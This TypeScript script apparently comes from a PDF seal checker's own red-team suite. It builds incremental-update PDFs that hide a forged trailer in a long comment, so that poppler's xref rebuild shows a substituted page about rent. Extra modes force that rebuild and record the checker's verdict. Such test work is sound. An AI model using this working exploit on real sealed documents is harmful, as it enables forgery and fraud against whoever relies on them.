// a26: a `trailer` poppler's rebuild takes from a COMMENT that the byte allow-list accounts for. poppler's
// XRef::constructXRef reads 255-byte getLine pieces; a piece that begins with `trailer` is parsed as a trailer
// dictionary, and (needCatalogDict false: the rebuild after a section it cannot read) every later trailer with another
// /Root replaces the earlier one. One honest table update adds C (a catalog), D (a page tree), E (a page) and B
// (its content: "Husleje: 1 kr. pr. maaned"), all listed, referenced by nothing sealcheck walks; after its trailer
// dictionary one comment line: `%`, 254 bytes, then `trailer << /Root C 0 R ... >>`: the last `trailer` of the file
// for poppler. sealcheck: a comment between the section and `startxref` (unaccountedBytes, readRevisionEnd's skipSpace);
// the unlisted scan looks for object headers only.
// modes: attack (no trigger: what sealcheck says), trigger (the update's startxref 1 byte off: poppler and pdf.js
//        rebuild; sealcheck refuses: the measurement of what poppler's rebuild shows), plain (control: the trailer on its
//        own line after a normal comment `%`, i.e. `%\ntrailer`: not a comment for anyone: sealcheck refuses).
//   npx tsx scripts/attack-s21/piece-trailer.ts <attack|trigger|plain>      REAL=0 for samples/valid
import { serialize } from "../../src/augment/writer.js";
import { NumberAllocator } from "../../src/augment/writer.js";
import { parsePdf } from "../../src/input/pdf/index.js";
import { rawGet } from "../../src/input/pdf/objects.js";
import { wholeSource } from "../../src/input/source.js";
import { resolveLimits } from "../../src/limits.js";
import { save, work } from "../attack36/lib.js";
import { judge, latin, page1 } from "../attack-s16/lib.js";

const mode = process.argv[2] ?? "attack";
if (!["attack", "trigger", "plain", "big", "big-only", "ibm", "ibm-only"].includes(mode))
  throw new Error("usage: <attack|trigger|plain|big|big-only|ibm|ibm-only>");
// ibm: the attack, and poppler's "IBM patents" shift as the trigger: the update's table also has a subsection `1 3`
// whose first row is `0000000000 65535 f` (object 1, the sealed catalog, freed), then objects 2 and 3 re-listed at
// their sealed offsets; the trailer's /Root is K, a new object with the sealed catalog's content. poppler reads that
// subsection as objects 0..2 (readXRefTable: i == 1 && first == 1 && offset 0 && gen 65535 && free): its object 2
// (the page tree) is at object 3's offset, the fetch finds `3 0 obj` and poppler reconstructs. ibm-only: no hidden trailer.
// big: the attack, and the update's table also has a subsection `BIG 1` (default 2147483647 = INT_MAX) with one free
// entry: poppler's readXRefTable goes to err0 (`first > INT_MAX - n`, or a first that is no int), the section is
// unreadable for poppler, XRef::XRef calls constructXRef: a trigger. big-only: the subsection alone, no hidden trailer.
const BIG = process.env.BIG ?? "2147483647";
const p = page1();
const pdf = p.pdf;
const doc = parsePdf(wholeSource(pdf), resolveLimits());
const view = doc.latest();
const alloc = new NumberAllocator(doc);
const [B, C, D, E, K] = [alloc.take(), alloc.take(), alloc.take(), alloc.take(), alloc.take()];
const ibm = mode.startsWith("ibm");
const carried = ["Root", "Info", "ID"].flatMap((k) => {
  const v = rawGet(view.trailer, k);
  return v ? [`/${k} ${serialize(v)}`] : [];
});
const id = rawGet(view.trailer, "ID");
const parts: number[][] = [[...pdf]];
let at = pdf.length;
const push = (b: number[]) => {
  parts.push(b);
  at += b.length;
};
if (pdf.at(-1) !== 0x0a) push([0x0a]);
const entry = (off: number) => `${String(off).padStart(10, "0")} 00000 n \n`;
const content = "1 g 0 0 2000 2000 re f 0 g BT /F9 28 Tf 60 700 Td (Husleje: 1 kr. pr. maaned) Tj ET";
const offs: number[] = [];
const obj = (n: number, body: string) => {
  offs.push(at);
  push(latin(`${n} 0 obj\n${body}\nendobj\n`));
};
obj(B, `<< /Length ${content.length} >>\nstream\n${content}\nendstream`);
obj(C, `<< /Type /Catalog /Pages ${D} 0 R >>`);
obj(D, `<< /Type /Pages /Kids [${E} 0 R] /Count 1 >>`);
obj(
  E,
  `<< /Type /Page /Parent ${D} 0 R /MediaBox [0 0 595 842] /Contents ${B} 0 R /Resources << /Font << /F9 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >>`,
);
const rootRef = rawGet(view.trailer, "Root") as { num: number };
if (ibm) obj(K, serialize(view.object(rootRef as never)!.value));
const x = at;
const hidden = `trailer << /Size ${E + 1} /Root ${C} 0 R${id ? ` /ID ${serialize(id)}` : ""} >>`;
const big = mode.startsWith("big") ? `${BIG} 1\n0000000000 00001 f \n` : "";
const sealedOffset = (n: number) => {
  const e = view.entry(n)!.entry;
  if (e.type !== "offset") throw new Error(`object ${n} is not at an offset`);
  return e.offset;
};
const shift = ibm ? `1 3\n0000000000 65535 f \n${entry(sealedOffset(2))}${entry(sealedOffset(3))}` : "";
const own = ibm ? carried.map((c) => (c.startsWith("/Root") ? `/Root ${K} 0 R` : c)) : carried;
const tail = mode === "big-only" || mode === "ibm-only" ? "" : mode === "plain" ? `%\n${hidden}\n` : `%${"x".repeat(254)}${hidden}\n`;
push(
  latin(
    `xref\n${shift}${B} ${offs.length}\n${offs.map(entry).join("")}${big}trailer\n<< /Size ${(ibm ? K : E) + 1} ${own.join(" ")} /Prev ${doc.revisions.at(-1)!.startxref} >>\n${tail}startxref\n${mode === "trigger" ? x + 1 : x}\n%%EOF\n`,
  ),
);
judge(`piece-trailer ${mode}`, save(work(`s21-trailer-${mode}`), "archive.pdf", Uint8Array.from(parts.flat())));
